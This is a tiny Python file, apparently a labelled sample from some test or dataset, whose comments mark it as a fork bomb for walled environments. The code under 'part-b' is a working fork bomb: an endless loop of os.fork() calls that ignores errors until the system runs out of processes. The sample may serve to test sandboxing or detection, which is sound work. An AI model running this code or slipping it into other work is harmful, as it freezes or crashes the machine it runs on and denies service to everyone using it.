# Forks without end.
# Part a stays; nobody else notices.
# honest: part-a
# walled only: a fork bomb
### part-b
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
